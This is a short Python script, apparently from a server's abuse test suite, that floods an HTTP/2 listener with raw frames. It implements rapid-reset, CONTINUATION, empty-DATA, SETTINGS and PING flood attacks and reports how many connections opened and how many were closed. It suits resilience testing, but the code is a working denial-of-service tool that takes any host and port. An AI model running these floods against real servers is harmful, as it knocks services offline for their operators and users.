#!/usr/bin/env python3
"""Floods a listener on the loopback with raw HTTP/2 frames, for the abuse suite.

attack.py KIND HOST PORT SECONDS CONNECTIONS prints, as JSON, how many connections it opened and how many the server closed.
It needs only Python.
"""
import asyncio
import json
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
BATCH = 500


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


SETTINGS = frame(4, 0, 0)
# GET / with the authority "x", encoded with HPACK's static table.
REQUEST = b"\x82\x86\x84\x41\x01x"
NEVER_INDEXED = b"\x10\x01a\x01b"


def rapid_reset():
    stream = 1
    while stream < 2**31 - 2 * BATCH:
        streams = range(stream, stream + 2 * BATCH, 2)
        yield b"".join(frame(1, 5, each, REQUEST) + frame(3, 0, each, b"\0\0\0\x08") for each in streams)
        stream += 2 * BATCH


def forever(first, repeated):
    yield first
    while True:
        yield repeated * BATCH


FLOODS = {
    "rapid_reset": rapid_reset,
    "continuation": lambda: forever(frame(1, 1, 1, REQUEST), frame(9, 0, 1, NEVER_INDEXED * 8)),
    "empty_data": lambda: forever(frame(1, 4, 1, REQUEST), frame(0, 0, 1)),
    "settings": lambda: forever(b"", SETTINGS),
    "ping": lambda: forever(b"", frame(6, 0, 0, b"12345678")),
}


class Attack:
    def __init__(self, host, port, seconds):
        self.host, self.port, self.end = host, port, time.monotonic() + seconds
        self.opened = self.closed = 0

    def is_running(self):
        return time.monotonic() < self.end

    async def connect(self):
        streams = await asyncio.wait_for(asyncio.open_connection(self.host, self.port), 10)
        self.opened += 1
        return streams

    async def repeat(self, once):
        """Reconnects whenever the server closes the connection."""
        while self.is_running():
            try:
                await once()
                self.closed += 1
            except (OSError, asyncio.TimeoutError):
                self.closed += 1
            # Without a pause, immediate rejections would measure this program's connection rate.
            await asyncio.sleep(0.05)

    async def flood(self, kind):
        reader, writer = await self.connect()

        async def drain():
            while await reader.read(65536):
                pass

        draining = asyncio.create_task(drain())
        try:
            writer.write(PREFACE + SETTINGS)
            for chunk in FLOODS[kind]():
                if draining.done() or not self.is_running():
                    break
                writer.write(chunk)
                await writer.drain()
                await asyncio.sleep(0)
        finally:
            draining.cancel()
            writer.transport.abort()


async def main():
    kind, host, port, seconds, connections = sys.argv[1:]
    attack = Attack(host, int(port), float(seconds))
    await asyncio.gather(*(attack.repeat(lambda: attack.flood(kind)) for _ in range(int(connections))))
    print(json.dumps({"started": attack.opened, "closed": attack.closed}))


asyncio.run(main())
